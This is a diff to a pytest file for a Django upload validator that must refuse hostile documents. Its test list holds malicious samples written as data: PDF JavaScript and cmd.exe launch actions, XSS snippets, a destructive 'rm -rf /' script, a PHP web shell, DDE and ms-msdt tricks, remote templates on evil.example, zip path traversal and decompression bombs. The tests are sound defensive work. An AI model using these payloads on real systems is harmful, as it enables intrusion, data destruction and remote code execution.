@@ -2,7 +2,9 @@
 
 import io
 import os
+import struct
 import zipfile
+import zlib
 
 import pytest
 from django.conf import settings
@@ -10,7 +12,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploaded
 from hypothesis import given
 from hypothesis import strategies as st
 
-from exemptions import documents, workflow
+from exemptions import contents, documents, workflow
 from exemptions.models import Document
 from portal.governance import audit
 from portal.governance.errors import DomainError, InvalidInput, NotAllowed
@@ -18,6 +20,11 @@ from tests.exemptions import asks
 
 WORD = asks.office("word/document.xml")
 EXCEL = asks.office("xl/workbook.xml")
+RELATIONS = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"'
+    ' Target="{}" TargetMode="External"/></Relationships>'
+)
 
 
 @pytest.fixture
@@ -29,15 +36,100 @@ def attach(exemption, cast, name, content):
     return workflow.attach(exemption, asks.document(name, content), by=cast["rita"])
 
 
+# Files as programs write them, and bent
+
+
+def pdf(body=b"1 0 obj << /Type /Catalog >> endobj", after=b"\n"):
+    return b"%PDF-1.7\n" + body + b"\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF" + after
+
+
+def packed_pdf(inside, filters=b"/FlateDecode", name=b"/ObjStm"):
+    head = b"2 0 obj << /Type " + name + b" /N 1 /First 4 /Filter " + filters + b" >> stream\n"
+    return pdf(head + zlib.compress(inside) + b"\nendstream endobj")
+
+
+def chunk(kind, body=b""):
+    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+
+
+def png(width=1, height=1, more=b"", after=b""):
+    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
+    pixels = chunk(b"IDAT", zlib.compress(b"\x00\x7f"))
+    return contents.PNG_START + header + more + pixels + chunk(b"IEND") + after
+
+
+def jpeg(width=1, height=1, more=b"", end=b"\xff\xd9"):
+    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
+    scan = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\x00\x00\x3f\x00" + b"\x12\xff\x00\x34"
+    return b"\xff\xd8" + more + frame + scan + end
+
+
+def comment(text):
+    return b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text
+
+
+def relation(kind, target, where="word/_rels/document.xml.rels"):
+    return asks.office(**{where: RELATIONS.format(kind, target).encode()})
+
+
+def with_entry(bend, name="word/more.xml", content=b"<more/>"):
+    """A document with one entry more, which is bent before it is written."""
+    stored = io.BytesIO(WORD)
+    with zipfile.ZipFile(stored, "a", zipfile.ZIP_DEFLATED) as archive:
+        entry = zipfile.ZipInfo(name)
+        bend(entry)
+        archive.writestr(entry, content)
+    return stored.getvalue()
+
+
+def encrypted():
+    """Every entry says that it needs a password."""
+    bent = bytearray(WORD)
+    for start, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        at = bent.find(start)
+        while at >= 0:
+            bent[at + flags] |= 1
+            at = bent.find(start, at + 1)
+    return bytes(bent)
+
+
+def lying():
+    """A member that unpacks to more than the directory says."""
+    big = asks.office(**{"word/media/picture.png": b"\x01" * 500_000})
+    return big.replace(struct.pack("<I", 500_000), struct.pack("<I", 5))
+
+
+def packed_otherwise(entry):
+    entry.compress_type = zipfile.ZIP_BZIP2
+
+
+def linked(entry):
+    entry.external_attr = 0o120777 << 16
+
+
 @pytest.mark.parametrize(
     ("name", "content", "called"),
     [
-        ("statement.pdf", b"%PDF-1.7 signed", "application/pdf"),
-        ("screen.png", b"\x89PNG\r\n\x1a\n....", "image/png"),
-        ("scan.JPEG", b"\xff\xd8\xff\xe0....", "image/jpeg"),
-        ("note.txt", "Loses 3 of 10 messages – measured twice.".encode(), "text/plain"),
-        ("letter.docx", WORD, documents.KINDS[".docx"][1]),
-        ("hosts.xlsx", EXCEL, documents.KINDS[".xlsx"][1]),
+        ("statement.pdf", pdf(), "application/pdf"),
+        ("opens-on-page-2.pdf", pdf(b"<< /OpenAction [ 3 0 R /Fit ] >>"), "application/pdf"),
+        ("packed.pdf", packed_pdf(b"1 0 << /Type /Catalog >>"), "application/pdf"),
+        ("signed-twice.pdf", pdf() + pdf(), "application/pdf"),
+        ("screen.png", png(1920, 1080), "image/png"),
+        ("described.png", png(more=chunk(b"tEXt", b"Software\x00Tool")), "image/png"),
+        ("scan.JPEG", jpeg(1240, 1754), "image/jpeg"),
+        ("photo.jpg", jpeg(more=comment(b"taken at noon")), "image/jpeg"),
+        ("note.txt", "Loses 3 of 10 messages – measured twice.\r\n\t".encode(), "text/plain"),
+        ("with-mark.txt", "\ufeffGrün".encode(), "text/plain"),
+        ("letter.docx", WORD, documents.KINDS[".docx"]),
+        ("hosts.xlsx", EXCEL, documents.KINDS[".xlsx"]),
+        ("v1.2 of 3.4.pdf", pdf(), "application/pdf"),
+        ("linked.docx", relation("hyperlink", "https://vendor.example/notice"), documents.KINDS[".docx"]),
+        (
+            "printed.xlsx",
+            asks.office("xl/workbook.xml", **{"xl/printerSettings/printerSettings1.bin": b"\x01\x02"}),
+            documents.KINDS[".xlsx"],
+        ),
+        ("picture.docx", asks.office(**{"word/media/image1.png": png()}), documents.KINDS[".docx"]),
     ],
 )
 def test_these_kinds_are_kept(exemption, cast, name, content, called):
@@ -46,42 +138,137 @@ def test_these_kinds_are_kept(exemption, cast, name, content, called):
     assert documents.read(document, by=cast["rita"]) == content
 
 
-@pytest.mark.parametrize(
-    ("name", "content", "code"),
-    [
-        ("run.exe", b"MZ\x90\x00", "type"),
-        ("page.html", b"<script>alert(1)</script>", "type"),
-        ("picture.svg", b"<svg onload='alert(1)'/>", "type"),
-        ("no ending", b"%PDF-1.7", "type"),
-        ("", b"%PDF-1.7", "type"),
-        ("statement.pdf.exe", b"%PDF-1.7", "type"),
-        ("empty.pdf", b"", "empty"),
-        ("statement.pdf", b"MZ\x90\x00 a program", "content"),
-        ("screen.png", b"%PDF-1.7", "content"),
-        ("note.txt", b"text" * 1000 + b"\x00\x01", "content"),
-        ("letter.docx", b"PK\x03\x04 cut short", "content"),
-        ("letter.docx", EXCEL, "content"),
-        ("hosts.xlsx", WORD, "content"),
-        ("letter.docx", asks.office(**{"word/vbaProject.bin": b"macro"}), "content"),
-    ],
-)
-def test_nothing_else_is_kept(exemption, cast, name, content, code):
+HOSTILE = [
+    # what they are called
+    ("run.exe", b"MZ\x90\x00", "type"),
+    ("page.html", b"<script>alert(1)</script>", "type"),
+    ("picture.svg", b"<svg onload='alert(1)'/>", "type"),
+    ("macros.docm", WORD, "type"),
+    ("no ending", pdf(), "type"),
+    ("", pdf(), "type"),
+    ("statement.pdf.exe", pdf(), "type"),
+    ("statement.exe.pdf", pdf(), "name"),
+    ("statement.html.txt", b"text", "name"),
+    ("invoice\u202efdp.pdf", pdf(), "name"),
+    ("\u2067statement\u2069.pdf", pdf(), "name"),
+    ("line\r\nbreak.pdf", pdf(), "name"),
+    ("cut.exe\x00.pdf", pdf(), "name"),
+    ("a" * 197 + ".pdf", pdf(), "name"),
+    # what they say that they are
+    ("empty.pdf", b"", "empty"),
+    ("statement.pdf", b"MZ\x90\x00 a program", "content"),
+    ("statement.pdf", b"\n" + pdf(), "content"),
+    ("screen.png", pdf(), "content"),
+    ("picture.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "content"),
+    ("scan.jpg", b"<html><script>alert(1)</script>", "content"),
+    ("scan.jpg", png(), "content"),
+    ("program.txt", b"MZ\x90\x00\x03", "content"),
+    ("page.txt", b"  <!DOCTYPE html><script>alert(1)</script>", "content"),
+    ("script.txt", b"#!/bin/sh\nrm -rf /", "content"),
+    ("note.txt", b"text" * 1000 + b"\x00\x01", "content"),
+    ("note.txt", "Grün".encode("latin-1"), "content"),
+    ("note.txt", "Text".encode("utf-16"), "content"),
+    ("terminal.txt", b"\x1b]0;owned\x07", "content"),
+    # PDF
+    ("script.pdf", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "content"),
+    ("escaped.pdf", pdf(b"<< /S /J#61vaScript /JS (app.alert(1)) >>"), "content"),
+    ("starts.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "content"),
+    ("carries.pdf", pdf(b"<< /Names << /EmbeddedFiles 3 0 R >> >>"), "content"),
+    ("carries-one.pdf", pdf(b"<< /Type /EmbeddedFile >>"), "content"),
+    ("opens.pdf", pdf(b"<< /OpenAction 5 0 R >>"), "content"),
+    ("opens-at-once.pdf", pdf(b"<< /OpenAction<</S/URI>> >>"), "content"),
+    ("form.pdf", pdf(b"<< /XFA [ 1 0 R ] >>"), "content"),
+    ("sends.pdf", pdf(b"<< /S /SubmitForm >>"), "content"),
+    ("media.pdf", pdf(b"<< /Subtype /RichMedia >>"), "content"),
+    ("elsewhere.pdf", pdf(b"<< /S /GoToR /F (//host/share) >>"), "content"),
+    ("secret.pdf", pdf(b"<< /Encrypt 9 0 R >>"), "content"),
+    ("link.pdf", pdf(b"<< /S /URI /URI (javascript:alert(1)) >>"), "content"),
+    ("hidden.pdf", packed_pdf(b"1 0 << /S /JavaScript >>"), "content"),
+    ("hidden-name.pdf", packed_pdf(b"1 0 << /S /JavaScript >>", name=b"/Obj#53tm"), "content"),
+    ("hidden-twice.pdf", packed_pdf(b"x", b"[ /FlateDecode /ASCIIHexDecode ]"), "content"),
+    ("unpackable.pdf", pdf(b"2 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\nxx"), "content"),
+    ("page.pdf", pdf(b"<html><script>alert(1)</script></html>"), "content"),
+    ("archive.pdf", pdf(WORD), "content"),
+    ("goes-on.pdf", pdf() + WORD, "content"),
+    ("cut.pdf", pdf()[:40], "content"),
+    # pictures
+    ("cut.png", png()[:-6], "content"),
+    ("damaged.png", png().replace(b"IDAT", b"IDAX"), "content"),
+    ("no-pixels.png", contents.PNG_START + chunk(b"IEND"), "content"),
+    ("bomb.png", png(60_000, 60_000), "content"),
+    ("nothing.png", png(0, 1), "content"),
+    ("archive.png", png(after=WORD), "content"),
+    ("archive-inside.png", png(more=chunk(b"zzZz", WORD)), "content"),
+    ("page.png", png(more=chunk(b"tEXt", b"a\x00<script>alert(1)</script>")), "content"),
+    ("cut.jpg", jpeg(end=b""), "content"),
+    ("only-start.jpg", b"\xff\xd8\xff\xe0", "content"),
+    ("no-pixels.jpg", b"\xff\xd8\xff\xd9", "content"),
+    ("bomb.jpg", jpeg(65_000, 65_000), "content"),
+    ("archive.jpg", jpeg() + WORD, "content"),
+    ("page.jpg", jpeg(more=comment(b"<?php system($_GET[0]); ?>")), "content"),
+    # Word and Excel
+    ("letter.docx", b"PK\x03\x04 cut short", "content"),
+    ("letter.docx", WORD[:-30], "content"),
+    ("letter.docx", EXCEL, "content"),
+    ("hosts.xlsx", WORD, "content"),
+    ("goes-on.docx", WORD + b"<script>", "content"),
+    ("begins-before.docx", b"PK\x03\x04" + WORD, "content"),
+    ("macros.docx", asks.office(**{"word/vbaProject.bin": b"macro"}), "content"),
+    ("renamed-docm.docx", asks.office(**{"docProps/x.xml": b"application/vnd.macroEnabled"}), "content"),
+    ("old-macros.xlsx", asks.office("xl/workbook.xml", **{"xl/macrosheets/sheet1.xml": b"<a/>"}), "content"),
+    ("object.docx", asks.office(**{"word/embeddings/oleObject1.bin": contents.OLE}), "content"),
+    ("disguised.docx", asks.office(**{"word/media/image1.png": contents.OLE + b"..."}), "content"),
+    ("program.docx", asks.office(**{"word/media/image1.png": b"MZ\x90\x00"}), "content"),
+    ("control.docx", asks.office(**{"word/activeX/activeX1.xml": b"<a/>"}), "content"),
+    ("carries.docx", asks.office(**{"word/run.exe": b"x"}), "content"),
+    ("template.docx", relation("attachedTemplate", "https://evil.example/t.dotm"), "content"),
+    ("picture-outside.docx", relation("image", "https://evil.example/p.png"), "content"),
+    ("share.docx", relation("hyperlink", "file://evil/share"), "content"),
+    ("handler.docx", relation("hyperlink", "ms-msdt:/id"), "content"),
+    ("fetches.docx", asks.office(**{"word/more.xml": b"<w:instrText>DDEAUTO c:\\\\cmd"}), "content"),
+    ("entity.docx", asks.office(**{"word/more.xml": b'<!DOCTYPE a [<!ENTITY b "b">]><a/>'}), "content"),
+    ("other-letters.docx", asks.office(**{"word/more.xml": "<a/>".encode("utf-16")}), "content"),
+    ("no-links.docx", asks.office(**{"word/_rels/x.rels": b"<a"}), "content"),
+    ("leads-out.docx", asks.office(**{"../../etc/cron.xml": b"<a/>"}), "content"),
+    ("leads-out-inside.docx", asks.office(**{"word/../../x.xml": b"<a/>"}), "content"),
+    ("absolute.docx", asks.office(**{"/etc/x.xml": b"<a/>"}), "content"),
+    ("drive.docx", asks.office(**{"C:/x.xml": b"<a/>"}), "content"),
+    ("backslash.docx", asks.office(**{"word\\x.xml": b"<a/>"}), "content"),
+    ("linked.docx", with_entry(linked), "content"),
+    ("two-faced.docx", asks.office(**{"word/Document.xml": b"<other/>"}), "content"),
+    ("secret.docx", encrypted(), "content"),
+    ("other-packing.docx", with_entry(packed_otherwise), "content"),
+    ("bomb.docx", asks.office(**{"word/media/zeros.png": b"\x00" * 5_000_000}), "content"),
+    ("lying.docx", lying(), "content"),
+]
+
+
+@pytest.mark.parametrize(("name", "content", "code"), HOSTILE, ids=[ascii(one[0])[:40] for one in HOSTILE])
+def test_a_hostile_file_is_refused(name, content, code):
+    upload = SimpleUploadedFile("x", content)
+    upload._name = name  # past Django's own cleaning, as another door might
     with pytest.raises(InvalidInput) as raised:
-        attach(exemption, cast, name or "x", content)
+        documents.raise_unless_allowed(upload)
     assert [(one.field, one.code) for one in raised.value.problems] == [("document", code)]
+    assert "{" not in str(raised.value)
+
+
+def test_what_is_refused_is_not_stored(exemption, cast):
+    with pytest.raises(InvalidInput):
+        attach(exemption, cast, "script.pdf", pdf(b"<< /S /JavaScript >>"))
     assert not Document.objects.exists()
 
 
 def test_a_document_over_the_limit_is_refused_with_both_figures(exemption, cast, settings):
     settings.DOCUMENT_MAX_BYTES = 2000
-    assert attach(exemption, cast, "fits.pdf", b"%PDF-" + b"x" * 1995)
+    assert attach(exemption, cast, "fits.txt", b"x" * 2000)
     with pytest.raises(InvalidInput, match="has 2,001 bytes; at most 2,000 are kept"):
-        attach(exemption, cast, "big.pdf", b"%PDF-" + b"x" * 1996)
+        attach(exemption, cast, "big.txt", b"x" * 2001)
 
 
 def test_a_bomb_is_refused_without_being_unpacked(exemption, cast, monkeypatch):
-    monkeypatch.setattr(documents, "MOST_UNPACKED", 1_000_000)
-    bomb = asks.office(**{"word/media/zeros.bin": b"\x00" * 1_000_001})
+    monkeypatch.setattr(contents, "MOST_UNPACKED", 1_000_000)
+    bomb = asks.office(**{"word/media/zeros.png": b"\x00" * 1_000_001})
     assert len(bomb) < 5_000
     with pytest.raises(InvalidInput, match="unpacks to more"):
         attach(exemption, cast, "bomb.docx", bomb)
@@ -89,7 +276,7 @@ def test_a_bomb_is_refused_without_being_unpacked(exemption, cast, monkeypatch):
 
 def test_too_many_members_are_counted_before_the_file_is_opened(exemption, cast, monkeypatch):
     monkeypatch.setattr(zipfile, "ZipFile", None)
-    crowd = WORD + documents.DIRECTORY_ENTRY * (documents.MOST_MEMBERS + 1)
+    crowd = WORD + contents.DIRECTORY_ENTRY * (contents.MOST_MEMBERS + 1)
     with pytest.raises(InvalidInput, match="unpacks to more"):
         attach(exemption, cast, "crowd.docx", crowd)
 
@@ -110,9 +297,7 @@ def test_a_damaged_office_file_is_refused_or_kept_and_never_an_error(cut, byte):
     [
         ("../../etc/passwd.pdf", "passwd.pdf"),
         ("C:\\Users\\rita\\statement.pdf", "statement.pdf"),
-        ("invoice\u202efdp.pdf", "invoicefdp.pdf"),
-        ("line\r\nbreak\x00.pdf", "linebreak.pdf"),
-        ("a" * 300 + ".pdf", "a" * 196 + ".pdf"),
+        ("Screen at 10.00\u202fAM.pdf", "Screen at 10.00AM.pdf"),
         ("Erklärung des Herstellers.pdf", "Erklärung des Herstellers.pdf"),
     ],
 )
@@ -129,8 +314,8 @@ def test_a_name_is_kept_for_people_and_never_becomes_a_path(exemption, cast, sen
 def test_files_lie_private(exemption, cast, spooled):
     upload = asks.document()
     if spooled:  # what a large upload arrives as
-        upload = TemporaryUploadedFile("large.pdf", "application/pdf", 15, None)
-        upload.write(b"%PDF-1.7 signed")
+        upload = TemporaryUploadedFile("large.pdf", "application/pdf", len(pdf()), None)
+        upload.write(pdf())
         upload.flush()
         os.chmod(upload.temporary_file_path(), 0o644)
     path = workflow.attach(exemption, upload, by=cast["rita"]).file.path
@@ -142,20 +327,20 @@ def test_files_lie_private(exemption, cast, spooled):
 
 
 def test_the_same_content_is_not_attached_twice(exemption, cast):
-    attach(exemption, cast, "first.pdf", b"%PDF-same")
+    attach(exemption, cast, "first.pdf", pdf(b"same"))
     with pytest.raises(InvalidInput, match="attached already, as “first.pdf”"):
-        attach(exemption, cast, "second.pdf", b"%PDF-same")
+        attach(exemption, cast, "second.pdf", pdf(b"same"))
 
 
 def test_at_most_ten_documents_are_kept(exemption, cast):
     for number in range(documents.MOST_DOCUMENTS):
-        attach(exemption, cast, f"{number}.pdf", b"%%PDF-%d" % number)
+        attach(exemption, cast, f"{number}.pdf", pdf(b"%d" % number))
     with pytest.raises(InvalidInput, match="At most 10 documents"):
-        attach(exemption, cast, "eleventh.pdf", b"%PDF-eleventh")
+        attach(exemption, cast, "eleventh.pdf", pdf(b"eleventh"))
 
 
 def test_every_reading_is_on_record(exemption, cast):
-    document = attach(exemption, cast, "statement.pdf", b"%PDF-1.7")
+    document = attach(exemption, cast, "statement.pdf", pdf())
     for name in ("omar", "axel"):
         documents.read(document, by=cast[name])
     readings = audit.timeline(exemption).filter(action="exemptions.document.read")
@@ -167,14 +352,14 @@ def test_every_reading_is_on_record(exemption, cast):
 
 @pytest.mark.parametrize("name", ["noor", "adam"])
 def test_who_may_not_see_the_exemption_reads_nothing(exemption, cast, name):
-    document = attach(exemption, cast, "statement.pdf", b"%PDF-1.7")
+    document = attach(exemption, cast, "statement.pdf", pdf())
     with pytest.raises(NotAllowed):
         documents.read(document, by=cast[name])
 
 
 @pytest.mark.parametrize("damage", ["changed", "gone"])
 def test_a_file_that_is_no_longer_the_one_uploaded_is_not_handed_out(exemption, cast, damage):
-    document = attach(exemption, cast, "statement.pdf", b"%PDF-1.7")
+    document = attach(exemption, cast, "statement.pdf", pdf())
     if damage == "gone":
         os.unlink(document.file.path)
     else:
